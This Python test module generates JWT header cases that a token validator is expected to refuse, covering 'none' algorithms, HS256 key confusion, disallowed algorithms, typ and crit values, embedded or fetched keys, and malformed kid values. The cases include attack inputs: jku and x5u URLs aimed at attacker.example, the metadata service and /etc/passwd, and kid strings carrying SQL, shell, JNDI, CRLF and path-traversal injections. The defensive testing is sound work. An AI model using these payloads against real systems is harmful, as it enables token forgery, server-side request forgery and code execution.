"""Cases about the JOSE header: algorithm, type, members that carry keys or extensions, `kid`."""

from cryptography.hazmat.primitives import serialization

from .case import refuse
from .issuers import UNICODE_KID
from .keys import KEYS, b64, jwk, public_pem
from .tokens import ABSENT, claims, dump, header, hs, jws, signing_input, token, with_header, with_signature


def cases():
    yield from unsecured()
    yield from symmetric()
    yield from other_algorithms()
    yield from key_does_not_fit()
    yield from types()
    yield from extensions()
    yield from embedded_keys()
    yield from key_ids()


def unsupported(name, because, source, text, issuer="cognito"):
    return refuse(f"alg-{name}", "unsupported_algorithm", because, source, text, issuer)


def unsecured():
    source = "RFC 8725 §3.1, §3.2; CVE-2015-9235"
    for name, alg in {
        "none": "none", "none-capitalised": "None", "none-upper-case": "NONE", "none-mixed-case": "nOnE",
        "none-with-space": " none", "none-with-nul": "none\u0000", "empty": "",
    }.items():
        yield unsupported(name, f"`alg` {dump(alg).decode()} asks for no signature at all.", source, with_signature(lambda _: b"", head={"alg": alg}))
    yield unsupported("none-signed", "`none` above a genuine RS256 signature is still `none`.", source, token(head={"alg": "none"}))
    yield unsupported("none-without-kid", "An unsecured token of the kind the old Lambda took has no `kid` either.", source, with_signature(lambda _: b"", head={"alg": "none", "kid": ABSENT}))
    yield unsupported("absent", "`alg` must be there; the key's algorithm is no default.", "RFC 7515 §4.1.1", token(head={"alg": ABSENT}))
    for name, value in {"null": None, "list": ["RS256"], "list-with-none": ["none", "RS256"], "number": 256, "object": {"name": "RS256"}, "true": True}.items():
        yield refuse(f"alg-{name}", "wrong_type", f"`alg` is a string, so {dump(value).decode()} is neither absent nor RS256.", "RFC 7515 §4.1.1", token(head={"alg": value}))


def symmetric():
    source = "RFC 8725 §2.1, §3.1; CVE-2015-9235"
    key = KEYS["cognito-1"].public_key()
    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    secrets = {
        "public-pem": (public_pem("cognito-1"), "the issuer's public key as PEM"),
        "public-pem-stripped": (public_pem("cognito-1").strip(), "the public key as PEM without its last newline"),
        "public-der": (der, "the public key as DER"),
        "jwk": (dump(jwk("cognito-1", "cognito-key-1")), "the issuer's JWK text"),
        "modulus": (key.public_numbers().n.to_bytes(256, "big"), "the modulus"),
        "empty-key": (b"", "an empty key"),
        "kid": (b"cognito-key-1", "the `kid`"),
        "weak-secret": (b"secret", "a word from every dictionary"),
    }
    for name, (secret, words) in secrets.items():
        yield unsupported(f"hs256-{name}", f"HS256 keyed with {words}: the token must not turn a public key into a secret.", source, with_signature(lambda text, secret=secret: hs(text, secret), head={"alg": "HS256"}))
    for size in ("384", "512"):
        yield unsupported(f"hs{size}-public-pem", f"HS{size} is no better than HS256.", source, with_signature(lambda text, size=size: hs(text, public_pem("cognito-1"), f"sha{size}"), head={"alg": f"HS{size}"}))
    secret = b"a secret that should never be here"
    yield unsupported("hs256-published-oct", "A symmetric key in the set is ignored, and HS256 refused before any key is looked at.", source, with_signature(lambda text: hs(text, secret), "cognito-mixed-keys", {"alg": "HS256", "kid": "oct"}), "cognito-mixed-keys")
    yield unsupported("hs256-at-many-algorithms", "An issuer with five algorithms still has no symmetric one.", source, with_signature(lambda text: hs(text, public_pem("oidc")), "oidc-many-algorithms", {"alg": "HS256"}), "oidc-many-algorithms")


def other_algorithms():
    allow_list = "RFC 8725 §3.1; credvend: allow-list"
    for alg in ("ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "PS384", "PS512", "ML-DSA-44", "RS1", "RSA-OAEP", "RSA1_5", "dir", "A256GCMKW"):
        yield unsupported(alg.lower().replace("_", "-"), f"`{alg}` is on no allow-list.", allow_list, token(head={"alg": alg}))
    for name, alg in {
        "lower-case": "rs256", "trailing-space": "RS256 ", "comma-list": "RS256,none", "with-nul": "RS256\u0000", "fullwidth": "\uff32S256",
        "hash-name": "SHA256withRSA", "uri": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    }.items():
        yield unsupported(f"rs256-{name}", f"`alg` is compared byte for byte, so {dump(alg).decode()} is not RS256.", "RFC 7515 §4.1.1", token(head={"alg": alg}))
    for alg in ("RS384", "RS512", "PS256"):
        yield unsupported(f"{alg.lower()}-not-allowed", f"A genuine {alg} signature where the issuer's entry allows RS256 only.", allow_list, token(head={"alg": alg}, alg=alg))
    yield unsupported("es256-not-allowed", "A genuine ES256 signature by a published key of an issuer that is allowed RS256 only.", allow_list, token("oidc", {"alg": "ES256", "kid": "ec-1"}, "ec-p256", "ES256"), "oidc")


def key_does_not_fit():
    many, source = "oidc-many-algorithms", "RFC 8725 §3.1; RFC 7515 §10.7"
    yield unsupported("es256-with-rsa-key", "The key alone decides the family: an RSA key verifies no ES256.", source, token(many, {"alg": "ES256"}, "ec-p256", "ES256"), many)
    yield unsupported("rs256-with-ec-key", "The key alone decides the family: an EC key verifies no RS256.", source, token(many, {"kid": "ec-1"}), many)
    yield unsupported("ps256-with-ec-key", "The key alone decides the family: an EC key verifies no PS256.", source, token(many, {"alg": "PS256", "kid": "ec-1"}, alg="PS256"), many)
    yield unsupported("ps256-with-rs256-key", "The JWK's `alg` says RS256, so the key makes no PS256.", "RFC 7517 §4.4; RFC 8725 §3.1", token(many, {"alg": "PS256", "kid": "rs256-only"}, alg="PS256"), many)
    yield unsupported("rs256-with-ps256-key", "The JWK's `alg` says PS256, so the key makes no RS256.", "RFC 7517 §4.4; RFC 8725 §3.1", token(many, {"kid": "ps256-only"}), many)
    yield unsupported("rs512-with-rs256-key", "The JWK's `alg` names the hash too.", "RFC 7517 §4.4; RFC 8725 §3.1", token(many, {"alg": "RS512", "kid": "rs256-only"}, alg="RS512"), many)


def types():
    def wrong(name, value, because, source="RFC 8725 §3.11"):
        return refuse(f"typ-{name}", "unsupported_header", because, source, token(head={"typ": value}))

    for name, value, what in (
        ("dpop", "dpop+jwt", "a DPoP proof (RFC 9449)"), ("logout", "logout+jwt", "a logout token"),
        ("security-event", "secevent+jwt", "a security event (RFC 8417)"), ("introspection", "token-introspection+jwt", "an introspection response (RFC 9701)"),
        ("client-authentication", "client-authentication+jwt", "a client assertion"), ("key-binding", "kb+jwt", "a key binding of a credential"),
        ("request-object", "oauth-authz-req+jwt", "a request object (RFC 9101)"),
    ):
        yield wrong(name, value, f"`typ` says {what}, not an access token.")
    yield wrong("jose", "JOSE", "`JOSE` names no JWT.", "RFC 7515 §4.1.9")
    yield wrong("jose-json", "JOSE+JSON", "`JOSE+JSON` names the JSON serialization.", "RFC 7515 §4.1.9")
    yield wrong("empty", "", "An empty `typ` is not an absent one.")
    yield wrong("application-only", "application/", "A prefix without a type is no type.", "RFC 7515 §4.1.9")
    yield wrong("prefix-twice", "application/application/jwt", "The prefix is left out once.", "RFC 7515 §4.1.9")
    yield wrong("text-jwt", "text/jwt", "Only the `application/` prefix may be left out.", "RFC 7515 §4.1.9")
    yield wrong("parameter", "application/jwt;charset=utf-8", "A media type with parameters is another value.", "RFC 7515 §4.1.9")
    yield wrong("trailing-space", "JWT ", "`typ` is compared whole.")
    yield wrong("near-miss", "at-jwt", "`at-jwt` is not `at+jwt`.", "RFC 9068 §2.1")
    yield wrong("nul", "at+jwt\u0000", "A NUL ends no string here.")
    yield wrong("fullwidth", "\uff2aWT", "Case folding is for ASCII only.")
    for name, value in {"null": None, "number": 1, "list": ["JWT"], "false": False}.items():
        yield refuse(f"typ-{name}", "wrong_type", f"`typ` is a string, so {dump(value).decode()} is not an absent one.", "RFC 7515 §4.1.9", token(head={"typ": value}))


def extensions():
    def refused(name, because, source, text):
        return refuse(name, "unsupported_header", because, source, text)

    crit = "RFC 7515 §4.1.11"
    yield refused("crit-unknown", "An extension that is critical and unknown makes the token invalid.", crit + "; CVE-2025-59420", token(head={"crit": ["bork"], "bork": True}))
    yield refused("crit-exp", "Critical `exp` in the header is not understood either.", crit + "; CVE-2026-32597", token(head={"crit": ["exp"], "exp": 1767229140}))
    yield refused("crit-uri", "A collision-resistant extension name is as unknown as a short one.", crit, token(head={"crit": ["http://example.com/MAC"], "http://example.com/MAC": 1}))
    yield refused("crit-registered", "`crit` must not name a registered member.", crit, token(head={"crit": ["alg"]}))
    yield refused("crit-named-but-absent", "`crit` must not name a member that is not there.", crit, token(head={"crit": ["bork"]}))
    yield refused("crit-empty", "An empty list is not allowed.", crit, token(head={"crit": []}))
    yield refused("crit-null", "`crit` null is not an absent one.", crit, token(head={"crit": None}))
    yield refused("crit-text", "`crit` as a string is not overlooked.", crit, token(head={"crit": "exp"}))
    unencoded = header() | {"b64": False}
    yield refused("b64-false", "The payload of a JWT is always encoded.", "RFC 7797 §7", with_header(unencoded))
    yield refused("b64-false-critical", "Critical `b64`, honoured or not, has no place in a JWT.", "RFC 7797 §6, §7", with_header(unencoded | {"crit": ["b64"]}))


def embedded_keys():
    def refused(name, because, source, **members):
        return refuse(f"header-{name}", "unsupported_header", because, source, token(head=members, key="attacker"))

    embedded = "RFC 8725 §3.10; CVE-2018-0114"
    fetched = "RFC 8725 §3.10; RFC 7515 §4.1.2"
    yield refused("jwk", "A key inside the token proves only that its holder made the token.", embedded, jwk=jwk("attacker", "cognito-key-1"))
    yield refused("jwk-other-kid", "The embedded key is not used under a `kid` of its own either.", embedded, jwk=jwk("attacker", "mine"), kid="mine")
    yield refused("jwk-symmetric", "An embedded symmetric key is refused like any other.", embedded, jwk={"kty": "oct", "k": b64(b"key")})
    yield refused("jwk-empty", "An empty `jwk` is still one.", embedded, jwk={})
    yield refused("jwk-null", "`jwk` null is not an absent one.", embedded, jwk=None)
    yield refuse("header-jwk-genuine", "unsupported_header", "Even the issuer's own key is not read from the token.", embedded, token(head={"jwk": jwk("cognito-1", "cognito-key-1")}))
    yield refused("jku", "A key set is never fetched from where the token says.", fetched, jku="https://attacker.example/jwks.json")
    yield refused("jku-of-issuer", "Not even when the address looks like the issuer's.", fetched, jku="https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_EXAMPLE01/.well-known/jwks.json@attacker.example")
    yield refused("jku-metadata-service", "An address from a token would be a request forged from our network.", fetched, jku="http://169.254.169.254/latest/meta-data/")
    yield refused("jku-file", "A local file is no key set.", fetched, jku="file:///etc/passwd")
    yield refused("x5u", "A certificate is never fetched from where the token says.", "RFC 8725 §3.10; RFC 7515 §4.1.5", x5u="https://attacker.example/cert.pem")
    yield refused("x5c", "A certificate inside the token proves nothing without a root of trust.", "RFC 7515 §4.1.6", x5c=["MIIB"])
    yield refused("x5c-empty", "An empty chain is still one.", "RFC 7515 §4.1.6", x5c=[])


def key_ids():
    def unknown(name, kid, because, source="RFC 7515 §4.1.4; RFC 8725 §3.10"):
        return refuse(f"kid-{name}", "unknown_key", because, source, token(head={"kid": kid}))

    yield refuse("kid-absent", "missing_key_id", "Without a `kid` no key is guessed, even if one would fit.", "RFC 7515 §4.1.4", token(head={"kid": ABSENT}))
    yield refuse("kid-empty", "missing_key_id", "An empty `kid` names nothing.", "RFC 7515 §4.1.4", token(head={"kid": ""}))
    yield refuse("kid-absent-one-key-fits", "missing_key_id", "A set with one RSA key does not make it the default.", "RFC 7515 §4.1.4", token("oidc", {"kid": ABSENT}), "oidc")
    for name, value in {"null": None, "number": 1, "list": ["cognito-key-1"], "object": {"$ne": ""}, "true": True}.items():
        yield refuse(f"kid-{name}", "wrong_type", f"`kid` is a string, so {dump(value).decode()} names no key.", "RFC 7515 §4.1.4", token(head={"kid": value}))
    yield refuse("kid-dev-null", "unknown_key", "A path to an empty file is just a name that the issuer does not publish.", "RFC 8725 §3.10", jws(header(kid="/dev/null"), claims(), "attacker"))
    yield unknown("path-traversal", "../../../../../../dev/null", "A `kid` is never a path.")
    yield unknown("sql", "x' UNION SELECT 'secret'-- ", "A `kid` is never part of a query.")
    yield unknown("shell", "cognito-key-1|sleep 10", "A `kid` is never part of a command.")
    yield unknown("template", "${jndi:ldap://attacker.example/a}", "A `kid` is never expanded.")
    yield unknown("url", "https://attacker.example/jwks.json", "A `kid` is never fetched.")
    yield unknown("line-break", "cognito-key-1\r\nlevel=info allowed=true", "A `kid` cannot write a log line of its own.")
    yield unknown("unpublished", "cognito-key-3", "A key that the issuer does not publish, or no longer does.")
    yield unknown("nul", "cognito-key-1\u0000", "A NUL ends no string here.")
    yield unknown("leading-space", " cognito-key-1", "`kid` is compared whole.")
    yield unknown("upper-case", "COGNITO-KEY-1", "`kid` is case-sensitive.")
    yield unknown("prefix", "cognito-key", "A prefix of a `kid` is another `kid`.")
    yield unknown("list-in-text", "cognito-key-1,cognito-key-2", "A list in one string is one name.")
    yield unknown("percent-encoded", "cognito%2Dkey%2D1", "Percent-encoding is not undone.")
    yield unknown("index", "0", "A `kid` is no position in the set.")
    yield unknown("prototype", "__proto__", "A `kid` is no property of an object.", "CVE-2018-0114; RFC 7515 §4.1.4")
    yield unknown("long", "k" * 6000, "A long `kid` is only a long name.")
    decomposed = UNICODE_KID.replace("\u00e9", "e\u0301")
    yield unknown("other-normal-form", decomposed, "No Unicode normalization: the same letters in other code points are another `kid`.", "RFC 7515 §5.3; RFC 8259 §8.3")
    text = signing_input(header(kid="rotated-away"), claims()).decode()
    yield refuse("kid-unpublished-without-signature", "unknown_key", "The key is looked for before the signature is.", "RFC 7515 §5.2", text + ".")
